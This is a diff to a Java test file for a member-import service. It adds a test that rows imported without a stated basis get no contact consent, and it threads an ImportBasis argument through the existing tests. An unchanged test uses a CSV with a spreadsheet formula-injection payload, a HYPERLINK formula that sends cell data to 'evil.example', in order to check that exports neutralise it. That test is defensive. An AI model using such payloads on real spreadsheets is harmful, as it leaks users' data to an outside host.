@@ -9,6 +9,7 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.RegisterExtension;
 
+import org.branchwork.node.domain.ImportBasis;
 import org.branchwork.node.domain.ImportField;
 import org.branchwork.node.domain.ImportProblem;
 import org.branchwork.node.domain.MemberId;
@@ -65,13 +66,32 @@ class MemberImportServiceTest {
     }
 
     @Test
+    void rowsImportedWithoutAStatedBasisAreNotContactedWhateverTheirConsentColumnSays() throws Exception {
+        long id = imports.validate(ORGANISER, "stall.csv", """
+                name,email,postcode,phone,contact_consent,tags
+                Sam Okafor,sam@example.org,M1 1AE,,yes,
+                """).id();
+        assertThat(imports.start(ORGANISER, id, ImportBasis.NONE)).isTrue();
+        awaitDone(id);
+        var listed = members.search(ORGANISER, new MemberQuery("sam", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
+                .rows();
+        assertThat(listed).hasSize(1);
+        var sam = listed.getFirst().member();
+        assertThat(sam.contactConsent()).isFalse();
+        assertThat(members.consents(sam.id())).containsEntry(org.branchwork.node.domain.Consent.Purpose.BRANCH, false);
+        assertThat(members.consentHistory(sam.id()))
+                .as("nothing granted, so nothing to record")
+                .isEmpty();
+    }
+
+    @Test
     void everyExportedCellThatASpreadsheetWouldRunIsWrittenAsText() throws Exception {
         long id = imports.validate(ORGANISER, "hostile.csv", """
                 name,email,postcode,phone,contact_consent,tags
                 "=HYPERLINK(""https://evil.example?""&B2,""x"")",=cmd@y.io,M1 1AE,+44 161 496 0000,yes,
                 " -2+3",plain@example.org,M1 1AE,,yes,
                 """).id();
-        assertThat(imports.start(ORGANISER, id)).isTrue();
+        assertThat(imports.start(ORGANISER, id, ImportBasis.COLUMN)).isTrue();
         awaitDone(id);
         java.io.StringWriter out = new java.io.StringWriter();
         members.exportCsv(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NEWEST, 1, 10), out);
@@ -124,7 +144,7 @@ class MemberImportServiceTest {
             store.progress(
                     c,
                     id,
-                    members.insertBatch(c, first),
+                    members.insertBatch(c, first, ImportBasis.COLUMN),
                     0,
                     first.get(first.size() - 1).line());
             return null;
@@ -147,7 +167,7 @@ class MemberImportServiceTest {
 
         assertThat(imports.discard(ORGANISER, id)).isTrue();
 
-        assertThat(imports.start(ORGANISER, id)).isFalse();
+        assertThat(imports.start(ORGANISER, id, ImportBasis.COLUMN)).isFalse();
         assertThat(rowsLeft(id)).isEmpty();
         assertThat(total()).isZero();
     }
@@ -213,7 +233,7 @@ class MemberImportServiceTest {
         assertThat(imports.columns(ORGANISER, id))
                 .as("the file is forgotten once checked")
                 .isEmpty();
-        assertThat(imports.start(ORGANISER, id)).isTrue();
+        assertThat(imports.start(ORGANISER, id, ImportBasis.COLUMN)).isTrue();
         awaitDone(id);
 
         var rows = members.search(ORGANISER, new MemberQuery("", "", "", null, MemberQuery.Sort.NAME, 1, 10))
@@ -254,7 +274,7 @@ class MemberImportServiceTest {
                 Zoë Ó Briain,zoe@example.org,M1 1AE,+44 161 496 0000,yes,"café,志愿者"
                 "=Łukasz",lukasz@example.org,SK1 3XE,,no,
                 """).id();
-        imports.start(ORGANISER, id);
+        imports.start(ORGANISER, id, ImportBasis.COLUMN);
         awaitDone(id);
         java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
         try (var out = new java.io.OutputStreamWriter(bytes, StandardCharsets.UTF_8)) {
@@ -286,7 +306,7 @@ class MemberImportServiceTest {
                 .id();
         assertThat(imports.status(ORGANISER, fresh).orElseThrow().problemCount())
                 .isZero();
-        imports.start(ORGANISER, fresh);
+        imports.start(ORGANISER, fresh, ImportBasis.COLUMN);
         awaitDone(fresh);
         var zoe = members.search(ORGANISER, new MemberQuery("zoe", "", "", null, MemberQuery.Sort.NEWEST, 1, 10))
                 .rows()
